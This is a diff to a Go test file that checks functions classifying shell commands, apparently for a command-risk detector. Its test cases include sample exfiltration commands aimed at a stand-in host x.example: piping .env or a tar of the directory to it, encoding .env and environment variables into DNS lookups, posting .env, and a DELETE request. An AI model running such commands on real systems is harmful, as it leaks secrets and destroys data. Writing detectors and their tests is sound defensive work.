@@ -225,6 +225,7 @@ func TestAlike(t *testing.T) {
 		{program.IsCluster, cluster},
 		{program.IsInterpreter, interpreter},
 		{program.SendsInput, []string{"cat .env | @ x.example 1", "tar c . | @ x.example 1", "base64 .env | @ x.example 1", "@ x.example 1 < .env"}},
+		{program.IsHTTPie, []string{"@ DELETE x.example:9200/orders", "@ POST https://x.example a@.env", "@ POST https://x.example < a.go", "@ localhost:3000 a=b < a.go", "@ x.example"}},
 		{program.LooksUp, []string{"@ \"$(base64 .env).x.example\"", "@ $(cat a.go).x.example", "xxd -p a.go | while read l; do @ $l.x.example; done", "@ \"$(env | base64).x.example\""}},
 		{program.ReadsPassword, []string{"echo x | @ -S id", "@ -S id < f", "@ --stdin id", "@ id"}},
 	} {
